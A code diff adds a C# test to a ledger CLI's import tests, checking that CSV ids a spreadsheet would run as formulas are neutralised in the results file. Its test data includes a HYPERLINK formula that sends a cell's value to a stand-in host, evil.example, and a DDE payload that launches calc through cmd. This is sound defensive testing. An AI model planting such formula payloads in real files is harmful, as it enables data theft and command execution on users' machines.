@@ -1,5 +1,6 @@
 using System.Text.Json;
 using OversightLedger.Cli.Tests.TestSupport;
+using Sylvan.Data.Csv;
 
 namespace OversightLedger.Cli.Tests.Agency;
 
@@ -115,6 +116,49 @@ public sealed class ImportCommandTests(LedgerServerFixture ledger)
         AssertNothingProcessed(await ImportAsync(funded, good, "--results", ledger.Temp.File("no-such-folder/results.csv")), "does not exist");
         Assert.False(File.Exists(ledger.Temp.File($"{funded.Program}-good.results.csv")));
         Assert.Equal(0, (await ledger.Setup.GetJsonAsync($"api/programs/{funded.Program}")).GetProperty("disbursements").GetInt32());
+    }
+
+    [Fact]
+    public async Task Ids_that_a_spreadsheet_would_run_as_formulas_are_neutralised_in_the_results_file_and_numbers_stay_numbers()
+    {
+        FundedProgram funded = await ledger.NewProgramAsync(capPerMonth: "100.00");
+        string b = funded.Budget;
+        string[] hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"];
+        string list = ledger.Temp.File($"{funded.Program}-hostile.csv");
+        await File.WriteAllLinesAsync(
+            list,
+            [
+                "id,budget,beneficiary,amount",
+                $"ok-{funded.Program},{b},{funded.Beneficiaries[0]},1.00",
+                .. hostile.Select(id => $"\"{id.Replace("\"", "\"\"", StringComparison.Ordinal)}\",{b},{funded.Beneficiaries[1]},1.00"),
+            ],
+            Ct);
+
+        CliResult result = await ImportAsync(funded, list);
+
+        Assert.True(result.ExitCode == 1, result.ToString());
+        string resultsPath = ledger.Temp.File($"{funded.Program}-hostile.results.csv");
+        List<string[]> rows = [];
+        using (CsvDataReader reader = CsvDataReader.Create(resultsPath, new CsvDataReaderOptions { Delimiter = ',' }))
+        {
+            Assert.Equal(["row", "id", "status", "leafIndex", "code", "message"], Enumerable.Range(0, reader.FieldCount).Select(reader.GetName));
+            while (reader.Read())
+            {
+                rows.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
+            }
+        }
+
+        Assert.Equal(hostile.Length + 1, rows.Count);
+        Assert.Equal(["1", $"ok-{funded.Program}", "accepted"], rows[0][..3]);
+        Assert.Matches("^[0-9]+$", rows[0][3]);
+        for (int i = 0; i < hostile.Length; i++)
+        {
+            string[] row = rows[i + 1];
+            Assert.Equal((i + 2).ToString(System.Globalization.CultureInfo.InvariantCulture), row[0]);
+            Assert.Equal("'" + hostile[i], row[1]);
+            Assert.Equal("rejected", row[2]);
+            Assert.All(row, cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), cell));
+        }
     }
 
     private Task<CliResult> ImportAsync(FundedProgram funded, string list, params string[] extra)
